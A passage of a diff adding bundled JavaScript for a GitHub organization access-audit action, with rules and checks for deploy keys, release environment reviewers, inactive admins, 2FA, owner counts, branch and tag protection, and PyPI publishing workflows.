+            return skip(deploy_keys_RULES.deployKeyWrite.id, unreadable('deployKeys', 'administration: read'), name);
+        (gathered.access[name] ??= {}).deployKeys = (repo.deployKeys.nodes ?? []).map((k) => ({
+            title: k.title,
+            createdAt: k.createdAt
+        }));
+        for (const k of repo.deployKeys.nodes ?? []) {
+            const props = { title: k.title, createdAt: k.createdAt };
+            if (!k.readOnly) {
+                add(deploy_keys_RULES.deployKeyWrite, name, {
+                    message: `${name}: deploy key "${k.title}" (added ${String(k.createdAt).slice(0, 10)}) can push.`,
+                    key: k.title,
+                    properties: props
+                });
+            }
+            else if (Date.parse(k.createdAt) < now.getTime() - 365 * 86_400_000) {
+                add(deploy_keys_RULES.deployKeyOld, name, {
+                    message: `${name}: read-only deploy key "${k.title}" was added on ${String(k.createdAt).slice(0, 10)}, more than a year ago.`,
+                    key: k.title,
+                    properties: props
+                });
+            }
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/environments.ts
+// Release environments (SPEC 8): the environments whose names match
+// `release-environments` need two distinct human reviewers (team members
+// counted), no self-review, and a deployment branch policy.
+
+
+const environments_RULES = (0,src/* defineRules */.x0)({
+    envNoReviewers: {
+        id: 'env/no-reviewers',
+        title: 'Release environment has no required reviewers',
+        severity: 'high',
+        why: 'Any workflow run allowed into the environment publishes without a human approving it.',
+        remediation: 'Environment settings → Required reviewers: add at least two maintainers and tick "Prevent self-review".',
+        spec: ['S8-3', 'S8-8']
+    },
+    envSingleReviewer: {
+        id: 'env/single-reviewer',
+        title: 'Release environment has fewer than two distinct reviewers',
+        severity: 'medium',
+        why: 'With one reviewer, releases stop when that person is away, and self-approval becomes the norm.',
+        remediation: 'Add a second maintainer (or a team with two people) as required reviewer.',
+        spec: ['S8-3', 'S6-6']
+    },
+    envSelfReview: {
+        id: 'env/self-review-allowed',
+        title: 'Release environment allows self-review',
+        severity: 'medium',
+        why: 'The person who triggered the release can approve it, so the second-person check is optional.',
+        remediation: 'Tick "Prevent self-review" in the environment settings.',
+        spec: ['S8-3']
+    },
+    envAnyBranch: {
+        id: 'env/any-branch',
+        title: 'Release environment can be used from any branch',
+        severity: 'medium',
+        why: 'A workflow on an unreviewed branch can enter the environment and use its secrets or its PyPI Trusted Publisher.',
+        remediation: 'Set Deployment branches and tags to "Protected branches" or to release tags only.',
+        spec: ['S8-8']
+    }
+});
+const environments = {
+    id: 'environments',
+    scope: 'repo',
+    rules: (0,src/* rulesOf */.fD)(environments_RULES),
+    run({ name, repo, config, teams, failed, unreadable, add, skip }) {
+        if (failed('environments') || !repo.environments)
+            return skip(environments_RULES.envNoReviewers.id, unreadable('environments', 'actions: read'), name);
+        for (const env of repo.environments.nodes ?? []) {
+            if (!config.releaseEnvironments.test(env.name))
+                continue;
+            const rules = env.protectionRules?.nodes ?? [];
+            const props = { environment: env.name };
+            const reviewRule = rules.find((r) => r.type === 'REQUIRED_REVIEWERS');
+            if (!reviewRule)
+                add(environments_RULES.envNoReviewers, name, {
+                    message: `${name}: environment ${env.name} has no required reviewers.`,
+                    key: env.name,
+                    properties: props
+                });
+            else {
+                const people = new Set();
+                let unknownTeam = false;
+                for (const r of reviewRule.reviewers?.nodes ?? []) {
+                    if (r.__typename === 'User' && isHuman(r.login))
+                        people.add(r.login.toLowerCase());
+                    if (r.__typename === 'Team') {
+                        const members = teams?.get(r.slug);
+                        if (!members)
+                            unknownTeam = true;
+                        for (const m of members ?? [])
+                            if (isHuman(m))
+                                people.add(m.toLowerCase());
+                    }
+                }
+                if (people.size < 2 && unknownTeam) {
+                    skip(environments_RULES.envSingleReviewer.id, `not checked for ${env.name}: the members of a reviewing team were not readable (needs members: read)`, name);
+                }
+                else if (people.size < 2) {
+                    add(environments_RULES.envSingleReviewer, name, {
+                        message: `${name}: environment ${env.name} has ${people.size} distinct human reviewer${people.size === 1 ? '' : 's'}.`,
+                        key: env.name,
+                        properties: props
+                    });
+                }
+                if (!reviewRule.preventSelfReview)
+                    add(environments_RULES.envSelfReview, name, {
+                        message: `${name}: environment ${env.name} lets the person who started a run approve it.`,
+                        key: env.name,
+                        properties: props
+                    });
+            }
+            if (!rules.some((r) => r.type === 'BRANCH_POLICY')) {
+                add(environments_RULES.envAnyBranch, name, {
+                    message: `${name}: environment ${env.name} accepts deployments from any branch.`,
+                    key: env.name,
+                    properties: props
+                });
+            }
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/inactivity.ts
+// Possibly inactive people with elevated access, from layered evidence, cheapest
+// first: commits on the default branches already fetched with the repositories;
+// then GitHub's contribution data (commits, issues, pull requests, reviews) in
+// windows of at most a year, GitHub's limit; then the organization audit log,
+// which only GitHub Enterprise Cloud has. Each layer only asks about the people
+// the previous ones did not see. A finding says "possibly inactive" and lists
+// the evidence looked at; nobody is removed.
+
+
+const inactivity_RULES = (0,src/* defineRules */.x0)({
+    inactive: {
+        id: 'people/possibly-inactive',
+        title: 'Person with elevated access shows no recent activity',
+        severity: 'low',
+        why: 'Dormant accounts with admin or maintain access are attractive targets and rarely noticed when compromised.',
+        remediation: 'Follow the SPEC 6 review: ask the person whether they still need the access, then lower it if not. Nobody is removed automatically.',
+        spec: ['S6-3', 'S6-8']
+    }
+});
+const DAY = 86_400_000;
+const BATCH = 20;
+const inactivity = {
+    id: 'inactivity',
+    scope: 'after',
+    rules: (0,src/* rulesOf */.fD)(inactivity_RULES),
+    run: (c) => judge(c, c.gathered)
+};
+async function judge({ io, org, now, inactiveDays, add, skip, notes }, input) {
+    let unseen = [...input.elevated.keys()].filter((l) => !input.committers.has(l.toLowerCase())).sort();
+    const unknown = new Map(); // login → why it could not be decided
+    const sources = [
+        input.historyComplete
+            ? 'commits on the audited default branches'
+            : 'commits on the default branches that were readable'
+    ];
+    // GitHub's contribution data, one window of at most 365 days at a time, newest first.
+    const start = now.getTime() - inactiveDays * DAY;
+    for (let to = now.getTime(); to > start && unseen.length; to -= 365 * DAY) {
+        const from = Math.max(start, to - 365 * DAY);
+        const active = new Set();
+        for (let i = 0; i < unseen.length; i += BATCH) {
+            const batch = unseen.slice(i, i + BATCH);
+            try {
+                const vars = { from: new Date(from).toISOString(), to: new Date(to).toISOString() };
+                batch.forEach((l, j) => (vars[`u${j}`] = l));
+                const { data, errors } = await io.graphql(activityQuery(batch.length), vars);
+                batch.forEach((login, j) => {
+                    const c = data?.[`u${j}`]
+                        ?.contributionsCollection;
+                    if (!c)
+                        unknown.set(login, errors?.find((e) => e.path?.[0] === `u${j}`)?.message ?? 'no contribution data');
+                    else if (total(c) > 0)
+                        active.add(login);
+                });
+            }
+            catch (e) {
+                for (const login of batch)
+                    unknown.set(login, (0,src/* describeApiError */.gg)(e));
+            }
+        }
+        unseen = unseen.filter((l) => !active.has(l) && !unknown.has(l));
+    }
+    sources.push('contributions on GitHub (commits, issues, pull requests, reviews)');
+    // The audit log sees what contributions do not (merges, settings, web activity); Enterprise Cloud only.
+    if (unseen.length) {
+        const since = new Date(start).toISOString().slice(0, 10);
+        let available = true;
+        const active = new Set();
+        for (let i = 0; i < unseen.length && available; i += BATCH) {
+            const batch = unseen.slice(i, i + BATCH);
+            const vars = { org };
+            batch.forEach((l, j) => (vars[`q${j}`] = `actor:${l} created:>=${since}`));
+            try {
+                const { data, errors } = await io.graphql(auditLogQuery(batch.length), vars);
+                const log = data?.organization;
+                if (!log || batch.some((_, j) => !log[`a${j}`])) {
+                    available = false;
+                    notes.push(`The organization audit log was not readable (${errors?.[0]?.message ?? 'no answer'}); it exists on GitHub Enterprise Cloud only. Inactivity was judged from commits and contributions.`);
+                    break;
+                }
+                batch.forEach((login, j) => {
+                    if (log[`a${j}`]?.nodes?.length)
+                        active.add(login);
+                });
+            }
+            catch (e) {
+                available = false;
+                notes.push(`The organization audit log was not readable (${(0,src/* describeApiError */.gg)(e)}); inactivity was judged from commits and contributions.`);
+            }
+        }
+        if (available)
+            sources.push('the organization audit log');
+        unseen = unseen.filter((l) => !active.has(l));
+    }
+    for (const [login, reason] of unknown)
+        skip(inactivity_RULES.inactive.id, `not checked: ${reason}`, login);
+    for (const login of unseen) {
+        const repos = input.elevated.get(login);
+        add(inactivity_RULES.inactive, undefined, {
+            message: `${login} holds admin or maintain on ${repos.length} repositor${repos.length === 1 ? 'y' : 'ies'} (${repos.slice(0, 5).join(', ')}${repos.length > 5 ? ', …' : ''}) and shows no activity in the last ${inactiveDays} days: possibly inactive.`,
+            key: login,
+            confidence: 'medium',
+            properties: { login, repos, evidence: sources }
+        });
+    }
+}
+const total = (c) => c.totalCommitContributions +
+    c.totalIssueContributions +
+    c.totalPullRequestContributions +
+    c.totalPullRequestReviewContributions +
+    c.restrictedContributionsCount;
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/org-settings.ts
+// The organization's own settings: required two-factor authentication and the
+// base permission, from `GET /orgs/{org}`, which the engine reads first (it
+// tells whether the organization can be audited at all). Owner-only fields
+// are simply absent for other callers.
+
+const org_settings_RULES = (0,src/* defineRules */.x0)({
+    orgTwoFactor: {
+        id: 'org/2fa-not-required',
+        title: 'Organization does not require two-factor authentication',
+        severity: 'high',
+        why: "Without required 2FA a single phished password gives an attacker the member's access to every repository and release credential.",
+        remediation: 'Organization settings → Authentication security → "Require two-factor authentication for everyone". Members without 2FA are removed, so warn them first.',
+        spec: ['S6-11']
+    },
+    defaultPermission: {
+        id: 'org/default-permission-too-broad',
+        title: 'Organization base permission grants write or admin',
+        severity: 'high',
+        why: 'The base permission applies to every member on every repository, so each member can push to all of them.',
+        remediation: 'Organization settings → Member privileges → Base permissions: "Read" or "No permission"; grant write through teams.',
+        spec: ['S6-2']
+    }
+});
+const orgSettings = {
+    id: 'org-settings',
+    scope: 'org',
+    rules: (0,src/* rulesOf */.fD)(org_settings_RULES),
+    async run({ org, settings, add, skip }) {
+        if ('error' in settings) {
+            for (const r of [org_settings_RULES.orgTwoFactor, org_settings_RULES.defaultPermission])
+                skip(r.id, `not checked: ${(0,src/* describeApiError */.gg)(settings.error, 'organization administration: read')}`, org);
+            return;
+        }
+        const { data } = settings;
+        if (typeof data.two_factor_requirement_enabled !== 'boolean') {
+            skip(org_settings_RULES.orgTwoFactor.id, 'not checked: needs organization administration: read (GitHub returned no two_factor_requirement_enabled)', org);
+        }
+        else if (!data.two_factor_requirement_enabled) {
+            add(org_settings_RULES.orgTwoFactor, undefined, { message: `${org} does not require two-factor authentication.` });
+        }
+        if (typeof data.default_repository_permission !== 'string') {
+            skip(org_settings_RULES.defaultPermission.id, 'not checked: needs organization administration: read (GitHub returned no default_repository_permission)', org);
+        }
+        else if (['write', 'admin'].includes(data.default_repository_permission)) {
+            add(org_settings_RULES.defaultPermission, undefined, {
+                message: `${org} gives every member ${data.default_repository_permission} on every repository.`
+            });
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/owners.ts
+// The organization's owners: at least two, and not so many that every extra
+// one widens who can change any setting and reach every secret.
+
+
+const owners_RULES = (0,src/* defineRules */.x0)({
+    tooFewOwners: {
+        id: 'org/too-few-owners',
+        title: 'Organization has fewer than two owners',
+        severity: 'medium',
+        why: 'With a single owner, the organization is lost (or held hostage) when that person is unavailable.',
+        remediation: 'Promote a second trusted maintainer to owner and document who the owners are.',
+        spec: ['S6-6']
+    },
+    tooManyOwners: {
+        id: 'org/too-many-owners',
+        title: 'Organization has many owners',
+        severity: 'low',
+        why: 'Every owner can change any setting and reach every secret; each extra owner widens the attack surface.',
+        remediation: 'Keep two to a few owners; give others maintain or admin on the repositories they work on.',
+        spec: ['S6-2']
+    }
+});
+const owners = {
+    id: 'owners',
+    scope: 'org',
+    rules: (0,src/* rulesOf */.fD)(owners_RULES),
+    async run({ io, org, config, settings, add, skip }) {
+        // Owner-only fields of the organization settings were readable: the caller is an owner.
+        const ownerView = 'data' in settings && typeof settings.data.two_factor_requirement_enabled === 'boolean';
+        try {
+            // Without members: read GitHub lists public members only, which would undercount owners:
+            // trust the list only when an owner-only field or a members-only route was readable.
+            if (!ownerView)
+                await io.request('GET /orgs/{org}/teams', { org, per_page: 1 });
+            const list = (await listAll(io, 'GET /orgs/{org}/members', { org, role: 'admin' })).map((m) => m.login);
+            if (list.length < 2)
+                add(owners_RULES.tooFewOwners, undefined, {
+                    message: `${org} has ${list.length} owner${list.length === 1 ? '' : 's'}.`
+                });
+            else if (list.length > config.maxOwners) {
+                add(owners_RULES.tooManyOwners, undefined, {
+                    message: `${org} has ${list.length} owners (more than ${config.maxOwners}).`,
+                    properties: { owners: list }
+                });
+            }
+        }
+        catch (e) {
+            skip(owners_RULES.tooFewOwners.id, `not checked: ${(0,src/* describeApiError */.gg)(e, 'members: read')}`, org);
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/glob.ts
+// Globs as GitHub applies them to ref names, used for repository names too.
+/** fnmatch as GitHub applies it to ref names: `*` stays inside a path segment, `**` crosses them. */
+function globToRegExp(glob) {
+    let re = '';
+    for (let i = 0; i < glob.length; i++) {
+        const c = glob[i];
+        if (c === '*' && glob[i + 1] === '*') {
+            re += '.*';
+            i++;
+        }
+        else if (c === '*')
+            re += '[^/]*';
+        else if (c === '?')
+            re += '[^/]';
+        else
+            re += c.replace(/[.+^${}()|[\]\\]/g, '\\$&');
+    }
+    return new RegExp(`^${re}$`);
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/branch-protection.ts
+// What protects a branch: classic branch protection and active branch
+// rulesets (organization rulesets included) together, as GitHub enforces them.
+
+/** Union of classic protection and active rulesets for one branch; 'unknown' when an unreadable source could change the answer. */
+function branchProtection(repo, branch, readable) {
+    const p = {
+        protected: false,
+        reviews: 0,
+        forcePushBlocked: false,
+        deletionBlocked: false,
+        signaturesRequired: false
+    };
+    if (readable.classic) {
+        const rules = repo.branchProtectionRules?.nodes ?? [];
+        const exact = rules.find((r) => r.pattern === branch);
+        const rule = exact ?? rules.find((r) => globToRegExp(r.pattern).test(branch));
+        if (rule) {
+            p.protected = true;
+            p.reviews = Math.max(p.reviews, rule.requiresApprovingReviews ? (rule.requiredApprovingReviewCount ?? 0) : 0);
+            p.forcePushBlocked ||= !rule.allowsForcePushes;
+            p.deletionBlocked ||= !rule.allowsDeletions;
+            p.signaturesRequired ||= !!rule.requiresCommitSignatures;
+        }
+    }
+    if (readable.rulesets) {
+        const ref = `refs/heads/${branch}`;
+        const isDefault = branch === repo.defaultBranchRef?.name;
+        const matches = (pat) => pat === '~ALL' || (pat === '~DEFAULT_BRANCH' && isDefault) || globToRegExp(pat).test(ref);
+        for (const rs of repo.rulesets?.nodes ?? []) {
+            if (rs.enforcement !== 'ACTIVE' || (rs.target ?? 'BRANCH') !== 'BRANCH')
+                continue;
+            const include = rs.conditions?.refName?.include ?? [];
+            const exclude = rs.conditions?.refName?.exclude ?? [];
+            if (!include.some(matches) || exclude.some(matches))
+                continue;
+            for (const rule of rs.rules?.nodes ?? []) {
+                p.protected = true;
+                if (rule.type === 'NON_FAST_FORWARD')
+                    p.forcePushBlocked = true;
+                if (rule.type === 'DELETION')
+                    p.deletionBlocked = true;
+                if (rule.type === 'REQUIRED_SIGNATURES')
+                    p.signaturesRequired = true;
+                if (rule.type === 'PULL_REQUEST')
+                    p.reviews = Math.max(p.reviews, rule.parameters?.requiredApprovingReviewCount ?? 0);
+            }
+        }
+    }
+    // One readable source showing nothing says nothing about the other.
+    if (!p.protected && !(readable.classic && readable.rulesets))
+        return 'unknown';
+    return p;
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/protection.ts
+// Branch and tag protection (SPEC 8): the default branch and the release
+// branches (`release*`, `maint*`) under classic protection and rulesets
+// together, signed commits where the config asks for them, and a tag ruleset
+// for release tags.
+
+
+
+const protection_RULES = (0,src/* defineRules */.x0)({
+    branchUnprotected: {
+        id: 'repo/branch-unprotected',
+        title: 'Default or release branch is not protected',
+        severity: 'high',
+        why: 'An unprotected branch can be rewritten or deleted by anyone with write access, including a stolen token, and releases are cut from it.',
+        remediation: 'Add a branch ruleset (Settings → Rules → Rulesets) targeting the default branch and release/* that blocks force pushes and deletion and requires a pull request.',
+        spec: ['S8-5']
+    },
+    noReview: {
+        id: 'repo/review-not-required',
+        title: 'Branch does not require an approving review',
+        severity: 'medium',
+        why: 'Without a required review one compromised account can land code that the next release ships.',
+        remediation: 'In the branch ruleset (or classic protection), require a pull request with at least one approving review.',
+        spec: ['S8-5']
+    },
+    forcePush: {
+        id: 'repo/force-push-allowed',
+        title: 'Force pushes are allowed on a protected branch',
+        severity: 'high',
+        why: 'A force push rewrites history silently; released commits can be replaced.',
+        remediation: 'Add the "Block force pushes" rule to the branch ruleset (or untick "Allow force pushes" in classic protection).',
+        spec: ['S8-5']
+    },
+    deletion: {
+        id: 'repo/deletion-allowed',
+        title: 'A protected branch can be deleted',
+        severity: 'medium',
+        why: 'Deleting the branch loses the protection with it and can be used to recreate it with other content.',
+        remediation: 'Add the "Restrict deletions" rule to the branch ruleset (or untick "Allow deletions").',
+        spec: ['S8-5']
+    },
+    signedCommits: {
+        id: 'repo/signed-commits-not-required',
+        title: 'Default branch does not require signed commits',
+        severity: 'low',
+        why: 'The organization asked for signed commits on this repository (config `require-signed-commits`); without the rule an unsigned commit, possibly from a stolen account or token, lands unnoticed.',
+        remediation: 'Add the "Require signed commits" rule to the branch ruleset (or tick it in classic branch protection).',
+        spec: ['S8-4']
+    },
+    tagsUnprotected: {
+        id: 'repo/tags-unprotected',
+        title: 'Release tags are not protected by a tag ruleset',
+        severity: 'low',
+        why: 'Anyone with write access can move or delete a release tag, so a tag no longer names what was released.',
+        remediation: 'Add a tag ruleset for `v*` that restricts updates and deletions.',
+        spec: ['S8-4']
+    }
+});
+const protection = {
+    id: 'protection',
+    scope: 'repo',
+    rules: (0,src/* rulesOf */.fD)(protection_RULES),
+    start({ config, notes }) {
+        if (!config.requireSignedCommits.length)
+            notes.push('Signed commits are not checked: no repositories listed in access-audit.require-signed-commits.');
+    },
+    run({ name, repo, config, failed, unreadable, add, skip }) {
+        const readable = { classic: !failed('branchProtectionRules'), rulesets: !failed('rulesets') };
+        const branches = [
+            repo.defaultBranchRef?.name,
+            ...(failed('releaseBranches') ? [] : (repo.releaseBranches?.nodes ?? []).map((n) => n.name))
+        ].filter((b) => !!b && (b === repo.defaultBranchRef?.name || /^(release|maint)/i.test(b)));
+        for (const branch of [...new Set(branches)]) {
+            const p = branchProtection(repo, branch, readable);
+            if (p === 'unknown') {
+                skip(protection_RULES.branchUnprotected.id, `not checked for ${branch}: neither classic protection nor rulesets were readable (needs administration: read)`, name);
+                continue;
+            }
+            const props = { branch };
+            if (!p.protected) {
+                add(protection_RULES.branchUnprotected, name, {
+                    message: `${name}: branch ${branch} has no branch protection and no active ruleset.`,
+                    key: branch,
+                    properties: props
+                });
+                continue;
+            }
+            if (p.reviews < 1)
+                add(protection_RULES.noReview, name, {
+                    message: `${name}: branch ${branch} does not require an approving review.`,
+                    key: branch,
+                    properties: props
+                });
+            if (!p.forcePushBlocked)
+                add(protection_RULES.forcePush, name, {
+                    message: `${name}: force pushes to ${branch} are allowed.`,
+                    key: branch,
+                    properties: props
+                });
+            if (!p.deletionBlocked)
+                add(protection_RULES.deletion, name, {
+                    message: `${name}: branch ${branch} can be deleted.`,
+                    key: branch,
+                    properties: props
+                });
+            // Signed commits only where the organization asked for them (SPEC 8 calls them advisory).
+            if (branch === repo.defaultBranchRef?.name &&
+                !p.signaturesRequired &&
+                config.requireSignedCommits.some((g) => globToRegExp(g).test(name))) {
+                if (readable.classic && readable.rulesets)
+                    add(protection_RULES.signedCommits, name, {
+                        message: `${name}: branch ${branch} does not require signed commits.`,
+                        key: branch,
+                        properties: props
+                    });
+                else
+                    skip(protection_RULES.signedCommits.id, `not checked for ${branch}: classic protection or rulesets were not readable (needs administration: read)`, name);
+            }
+        }
+        if (readable.rulesets) {
+            const tagRules = (repo.rulesets?.nodes ?? []).filter((rs) => rs.enforcement === 'ACTIVE' &&
+                rs.target === 'TAG' &&
+                (rs.rules?.nodes ?? []).some((r) => ['UPDATE', 'DELETION'].includes(r.type)));
+            if (!tagRules.length)
+                add(protection_RULES.tagsUnprotected, name, {
+                    message: `${name}: no active tag ruleset restricts updating or deleting tags.`
+                });
+        }
+        else
+            skip(protection_RULES.tagsUnprotected.id, unreadable('rulesets', 'metadata: read'), name);
+    }
+};
+
+// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
+var dist = __nccwpck_require__(8815);
+;// CONCATENATED MODULE: ./actions/access-audit/src/publish-jobs.ts
+// A workflow's jobs as the publish checks read them: which jobs publish (or
+// call a local reusable workflow that does), their steps, triggers, `if:`
+// guards, permissions and `needs`, each with the YAML node a finding points at.
+
+const PUBLISH_ACTION = /^pypa\/gh-action-pypi-publish$/i;
+const PUBLISH_COMMAND = /\b(twine\s+upload|uv\s+publish|flit\s+publish|poetry\s+publish|gh\s+release\s+upload)\b/;
+const str = (n) => (0,dist/* isScalar */.jn)(n) && n.value !== null && n.value !== undefined ? String(n.value) : undefined;
+const mapGet = (m, key) => (0,dist/* isMap */.jh)(m) ? m.get(key, true) : undefined;
+const actionName = (uses) => uses.replace(/@.*$/, '');
+/** `./.github/workflows/x.yml` (a job's `uses:`) as the repository path `.github/workflows/x.yml`. */
+const localWorkflowPath = (uses) => /^\.\/\.github\/workflows\/[^/@]+\.ya?ml$/.test(uses) ? uses.slice(2) : undefined;
+function readJobs(y, publishers) {
+    const jobs = mapGet(y.doc.contents, 'jobs');
+    if (!(0,dist/* isMap */.jh)(jobs))
+        return [];
+    const out = [];
+    for (const pair of jobs.items) {
+        if (!(0,dist/* isMap */.jh)(pair.value))
+            continue;
+        const node = pair.value;
+        const stepsNode = node.get('steps', true);
+        const steps = ((0,dist/* isSeq */.oP)(stepsNode) ? stepsNode.items : []).filter(dist/* isMap */.jh).map((s) => {
+            const usesNode = s.get('uses', true);
+            const runNode = s.get('run', true);
+            return { node: s, usesNode, runNode, uses: str(usesNode), run: str(runNode) };
+        });
+        const publishes = steps.some((s) => (s.uses && PUBLISH_ACTION.test(actionName(s.uses))) || (s.run && PUBLISH_COMMAND.test(s.run)));
+        const callee = localWorkflowPath(str(node.get('uses', true)) ?? '');
+        out.push({
+            id: String(str(pair.key) ?? pair.key),
+            keyNode: pair.key,
+            node,
+            steps,
+            publishes,
+            callsPublisher: !!callee && publishers.has(callee)
+        });
+    }
+    return out;
+}
+/** Events that start the workflow, each with the node that names it. */
+function triggers(y) {
+    const on = mapGet(y.doc.contents, 'on');
+    if ((0,dist/* isScalar */.jn)(on))
+        return [{ event: String(on.value), node: on }];
+    if ((0,dist/* isSeq */.oP)(on))
+        return on.items.flatMap((n) => ((0,dist/* isScalar */.jn)(n) ? [{ event: String(n.value), node: n }] : []));
+    if ((0,dist/* isMap */.jh)(on))
+        return on.items.flatMap((p) => ((0,dist/* isScalar */.jn)(p.key) ? [{ event: String(p.key.value), node: p.key }] : []));
+    return [];
+}
+/** The events a job's `if:` lets through, when it names them as `github.event_name == '…'` joined by `&&` only. */
+function eventsAllowedByIf(job) {
+    const cond = str(job.node.get('if', true));
+    if (!cond || /\|\||!=/.test(cond))
+        return undefined;
+    const named = [...cond.matchAll(/github\.event_name\s*==\s*['"](\w+)['"]/g)].map((m) => m[1]);
+    return named.length ? new Set(named) : undefined;
+}
+/** `permissions:` grants id-token: write (directly or through write-all). */
+function grantsIdToken(node) {
+    const perms = mapGet(node, 'permissions');
+    if ((0,dist/* isScalar */.jn)(perms))
+        return perms.value === 'write-all' ? perms : undefined;
+    const idToken = mapGet(perms, 'id-token');
+    return str(idToken) === 'write' ? idToken : undefined;
+}
+/** Jobs a job depends on, transitively. */
+function ancestors(job, byId, seen = new Set()) {
+    const needs = job.node.get('needs', true);
+    const ids = (0,dist/* isSeq */.oP)(needs) ? needs.items.map(str) : [str(needs)];
+    for (const id of ids) {
+        const dep = id !== undefined ? byId.get(id) : undefined;
+        if (!dep || seen.has(id))
+            continue;
+        seen.add(id);
+        ancestors(dep, byId, seen);
+    }
+    return seen;
+}
+/** Scalars anywhere under a node, with the key (and key node) when they are a map value. */
+function* scalars(node) {
+    if ((0,dist/* isMap */.jh)(node)) {
+        for (const p of node.items) {
+            if ((0,dist/* isScalar */.jn)(p.value) && p.value.value !== null && p.value.value !== undefined) {
+                yield { key: str(p.key), keyNode: p.key, node: p.value, value: String(p.value.value) };
+            }
+            else
+                yield* scalars(p.value);
+        }
+    }
+    else if ((0,dist/* isSeq */.oP)(node)) {
+        for (const item of node.items) {
+            if ((0,dist/* isScalar */.jn)(item) && item.value !== null && item.value !== undefined)
+                yield { node: item, value: String(item.value) };
+            else
+                yield* scalars(item);
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/publish.ts
+// Static checks of a repository's publishing workflows (SPEC 8): which jobs
+// publish, what starts them, where they run and with which credentials. Pure
+// over the file's text, so the audit and the template tests see the same
+// answer for the same file.
+
+
+
+const publish_RULES = (0,src/* defineRules */.x0)({
+    publishTrigger: {
+        id: 'publish/trigger',
+        title: 'Publishing workflow starts on an event nobody chose to release on',
+        severity: 'high',
+        why: "A push, a schedule, another workflow's run or a pull_request_target event can publish a release without the release team deciding to; one pushed commit (or a fork's pull request) becomes a release.",
+        remediation: "Start the publishing workflow on `release: types: [published]` or `workflow_dispatch` only; keep other triggers in a separate workflow, or guard the publish job with `if: github.event_name == 'release'`.",
+        spec: ['S8-2']
+    },
+    publishNoEnvironment: {
+        id: 'publish/no-environment',
+        title: 'Publish job does not run in an environment',
+        severity: 'high',
+        why: 'Without an environment no required reviewer approves the upload and no deployment-branch policy limits where it runs; a PyPI Trusted Publisher bound to an environment cannot be required either.',
+        remediation: 'Add `environment: pypi` (with required reviewers and a tag or branch policy) to the publish job, and name that environment in the PyPI Trusted Publisher.',
+        spec: ['S8-8']
+    },
+    publishPassword: {
+        id: 'publish/password',
+        title: 'Publish job uses a password or long-lived token',
+        severity: 'high',
+        why: 'A PyPI token in a secret can be read by any step of any workflow that is given it and publishes from anywhere until revoked; Trusted Publishing needs no stored credential.',
+        remediation: 'Configure a PyPI Trusted Publisher for this workflow and environment, remove `password:` / `TWINE_PASSWORD` / the token secret from the workflow, give the publish job `id-token: write`, then delete the secret and revoke the token on PyPI.',
+        spec: ['S6-10', 'S8-13']
+    },
+    publishIdTokenScope: {
+        id: 'publish/id-token-scope',
+        title: '`id-token: write` granted beyond the publish job',
+        severity: 'medium',
+        why: 'An OIDC token is what PyPI Trusted Publishing trusts; a job that builds or tests with `id-token: write` can mint one and publish from code that was never meant to.',
+        remediation: 'Keep `permissions: contents: read` at the workflow level and grant `id-token: write` only on the publish job (and on a job that only signs or attests).',
+        spec: ['S8-13']
+    },
+    publishUnpinned: {
+        id: 'publish/unpinned-action',
+        title: 'Action in a publishing workflow is not pinned to a commit SHA',
+        severity: 'medium',
+        why: 'A tag or branch can be moved to new code; in the publishing workflow that code runs next to the release artifacts and the OIDC token.',
+        remediation: 'Pin to the full 40-character commit SHA with the version as a comment (`uses: owner/action@<sha> # v1.2.3`), and let Dependabot update it.',
+        spec: ['S8-9']
+    },
+    publishCache: {
+        id: 'publish/cache-in-release',
+        title: 'Release job restores a cache',
+        severity: 'medium',
+        why: 'Caches are shared with other workflows of the repository, including ones that run pull request code; a poisoned cache ends up in the released files.',
+        remediation: 'Remove `actions/cache` and the `cache:` option of setup actions from the jobs that build and publish the release; build from a clean environment.',
+        spec: ['S8-15']
+    },
+    publishNoPrintHash: {
+        id: 'publish/no-print-hash',
+        title: 'Publish step does not print the hashes of what it uploads',
+        severity: 'low',
+        why: 'Without the hashes in the log nobody can check afterwards that the files on PyPI are the ones the workflow built.',
+        remediation: 'Add `print-hash: true` under `with:` of pypa/gh-action-pypi-publish.',
+        spec: ['S8-14']
+    }
+});
+// `release` and `workflow_dispatch` are a person's decision; these are not.
+const UNINTENDED_TRIGGERS = ['push', 'pull_request_target', 'workflow_run', 'schedule'];
+// Jobs that need an OIDC token for something other than PyPI: keyless signing and attestations.
+const OIDC_SIGNERS = /^(actions\/attest(-build-provenance|-sbom)?|sigstore\/gh-action-sigstore-python|scientific-python\/security-actions\/actions\/sign-release|\.\/actions\/sign-release)$/i;
+const CREDENTIAL_ENV = /^(TWINE_PASSWORD|UV_PUBLISH_(TOKEN|PASSWORD)|FLIT_PASSWORD|POETRY_PYPI_TOKEN_\w+|POETRY_HTTP_BASIC_\w+_PASSWORD)$/i;
+const CREDENTIAL_SECRET = /\bsecrets\.(\w*(PYPI|TWINE)\w*)/i;
+const CACHING_SETUP = /^actions\/setup-(python|node|go|java|dotnet)$/i;
+/** Whether a job of the workflow publishes, or calls a reusable workflow of the same repository in `publishers`. */
+function publishes(y, publishers = new Set()) {
+    return readJobs(y, publishers).some((j) => j.publishes || j.callsPublisher);
+}
+/**
+ * Findings for one workflow file: nothing unless a job publishes (pypa's
+ * action, or a run step calling twine/uv/flit/poetry publish or gh release
+ * upload) or calls a reusable workflow of the same repository that does
+ * (`publishers`: such workflows' paths; then this file's triggers decide when
+ * the release happens). Malformed YAML gives `error` and no findings.
+ */
+function publishWorkflowFindings(file, source, publishers = new Set()) {
+    let y;
+    try {
+        y = typeof source === 'string' ? (0,src/* parseYamlFile */.BU)(source, file) : source;
+    }
+    catch (e) {
+        return { issues: [], publishJobs: [], error: (0,src/* oneLine */.TN)(e) };
+    }
+    const jobs = readJobs(y, publishers);
+    const publishing = jobs.filter((j) => j.publishes || j.callsPublisher);
+    if (!publishing.length)
+        return { issues: [], publishJobs: [] };
+    const issues = [];
+    const at = (node) => ({ file, line: y.pos(node).line });
+    const issue = (rule, node, message, key, evidence) => issues.push({
+        rule,
+        input: {
